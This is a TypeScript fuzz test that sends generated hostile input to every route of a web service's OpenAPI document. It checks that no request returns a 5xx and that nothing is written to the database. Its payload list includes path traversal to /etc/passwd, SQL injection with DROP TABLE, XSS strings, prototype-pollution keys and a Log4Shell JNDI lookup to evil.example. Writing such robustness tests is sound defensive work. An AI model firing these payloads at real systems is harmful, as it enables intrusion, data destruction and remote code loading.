import fc from 'fast-check';
import request from 'supertest';
import { bearer, demo, officer, people, type Api } from './support/api';
import { countRows, queryDatabase } from './support/db';
import { startSystem, type RunningSystem } from './support/system';

/** How many generated requests each route gets; `HOSTILE_RUNS` raises it for a long run. */
const RUNS = Number(process.env['HOSTILE_RUNS'] ?? 12);
const SEED = Number(process.env['HOSTILE_SEED'] ?? 20261123);

interface Operation {
  verb: string;
  path: string;
  query: string[];
  bodyProperties: string[];
  upload: boolean;
}

/** Strings that have broken web services before: traversal, injection, unicode edges, sheer size. */
const hostileString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    "' OR '1'='1' --",
    '1; DROP TABLE applications; --',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '\u0000',
    '\ud800',
    '‮gnp.exe',
    'ＳＩＰ',
    '😀'.repeat(300),
    'a'.repeat(70_000),
    '-1',
    '1e309',
    'NaN',
    '00000000-0000-0000-0000-000000000000',
    '3271-26-7K4Q-X9M2-H',
  ),
);
/** Percent-encodes anything; lone surrogates become bytes that are not UTF-8, as a hostile client sends. */
const encodeAny = (value: string) => {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...Buffer.from(value, 'utf16le')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
  }
};
const urlPart = hostileString.map((v) => v.slice(0, 1000));
const hostileValue = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 5 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

function operationsOf(document: {
  paths: Record<
    string,
    Record<
      string,
      {
        parameters?: Array<{ in: string; name: string }>;
        requestBody?: { content: Record<string, { schema: { $ref?: string } }> };
      }
    >
  >;
  components: { schemas: Record<string, { properties?: Record<string, unknown> }> };
}): Operation[] {
  return Object.entries(document.paths).flatMap(([path, item]) =>
    Object.entries(item).map(([verb, op]) => {
      const content = op.requestBody?.content ?? {};
      const ref = content['application/json']?.schema.$ref?.split('/').pop();
      return {
        verb,
        path,
        query: (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
        bodyProperties: Object.keys((ref && document.components.schemas[ref]?.properties) ?? {}),
        upload: 'multipart/form-data' in content,
      };
    }),
  );
}

/** Row counts of every table in every service's database. */
async function census(system: RunningSystem): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const [service, database] of Object.entries(system.databases)) {
    const tables = await queryDatabase<{ name: string }>(
      database,
      `SELECT relname AS name FROM pg_stat_user_tables
       WHERE relname NOT IN ('migrations', 'processed_events') ORDER BY relname`,
    );
    Object.assign(
      counts,
      await countRows(
        database,
        tables.map((t) => t.name),
        service,
      ),
    );
  }
  return counts;
}

/**
 * Every route of the OpenAPI document, called with generated hostile input (fast-check): wrong
 * types, missing and extra fields, huge and strange strings, traversal and injection in path,
 * query and body, wrong content types, malformed uploads, as anonymous, a citizen and an officer.
 * No answer may be a 5xx, and nothing may be written.
 */
describe('hostile input on every route', () => {
  let system: RunningSystem;
  let api: Api;
  const tokens: Record<string, string | undefined> = { anonymous: undefined };

  beforeAll(async () => {
    system = await startSystem();
    api = request(system.gatewayUrl);
    const the = people(api);
    tokens['citizen'] = await the.signIn(demo.person.email);
    tokens['officer'] = await the.signIn(officer('DPMPTSP', 'front-office'));
  });
  afterAll(() => system?.stop());

  it('never answers 5xx and never writes', async () => {
    const document = (await api.get('/docs/openapi.json').expect(200)).body;
    const operations = operationsOf(document);
    expect(operations.length).toBeGreaterThan(50);
    const before = await census(system);
    const seen = { requests: 0, byStatus: {} as Record<number, number>, serverErrors: [] as string[] };

    for (const op of operations) {
      const input = fc.record({
        who: fc.constantFrom('anonymous', 'citizen', 'officer'),
        // URLs stay under Node's 16 KB header limit here; an oversized one is checked on its own below.
        pathValues: fc.array(urlPart, { minLength: 4, maxLength: 4 }),
        query: fc.dictionary(fc.constantFrom(...op.query, 'extra', 'limit', '__proto__'), urlPart, {
          maxKeys: 3,
        }),
        body: fc.oneof(
          fc.dictionary(
            fc.constantFrom(...op.bodyProperties, 'extra', 'constructor', '__proto__'),
            hostileValue,
            {
              maxKeys: 6,
            },
          ),
          hostileValue,
        ),
        contentType: fc.constantFrom(
          'application/json',
          'application/json',
          'text/plain',
          'application/xml',
          'multipart/form-data; boundary=x',
          'application/x-www-form-urlencoded',
        ),
      });
      await fc.assert(
        fc.asyncProperty(input, async ({ who, pathValues, query, body, contentType }) => {
          let i = 0;
          const url =
            op.path.replace(/\{[^}]+\}/g, () => encodeAny(String(pathValues[i++]))) +
            (Object.keys(query).length ? `?${new URLSearchParams(query as Record<string, string>)}` : '');
          let req = api[op.verb as 'get'](url);
          const token = tokens[who];
          if (token) req = req.set(bearer(token));
          if (op.upload && contentType.startsWith('multipart')) {
            req = req
              .field('kind', String(pathValues[0]).slice(0, 200))
              .attach('file', Buffer.from(String(pathValues[1])), 'x.bin');
          } else if (op.verb !== 'get' && op.verb !== 'delete') {
            req = req.set('content-type', contentType).send(JSON.stringify(body) ?? 'null');
          }
          const res = await req;
          seen.requests++;
          seen.byStatus[res.status] = (seen.byStatus[res.status] ?? 0) + 1;
          if (res.status >= 500) {
            const what = `${op.verb.toUpperCase()} ${url.slice(0, 120)} → ${res.status} ${res.text.slice(0, 300)}`;
            seen.serverErrors.push(what);
            throw new Error(what); // fast-check shrinks the input and reports it with this
          }
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
    }

    // A URL beyond the HTTP server's header limit is refused before any code of ours runs.
    const huge = await api.get(`/api/v1/track/${'A'.repeat(20_000)}`).catch((e: NodeJS.ErrnoException) => e);
    expect('status' in huge ? huge.status : huge.code).toBe(431);
    seen.requests++;

    // Printed for RELIABILITY.md: how much was tried and how it was answered.
    process.stdout.write(
      `hostile input: ${seen.requests} requests on ${operations.length} routes; by status ${JSON.stringify(seen.byStatus)}\n`,
    );
    expect(seen.serverErrors).toEqual([]);
    expect(await census(system)).toEqual(before);
  });
});
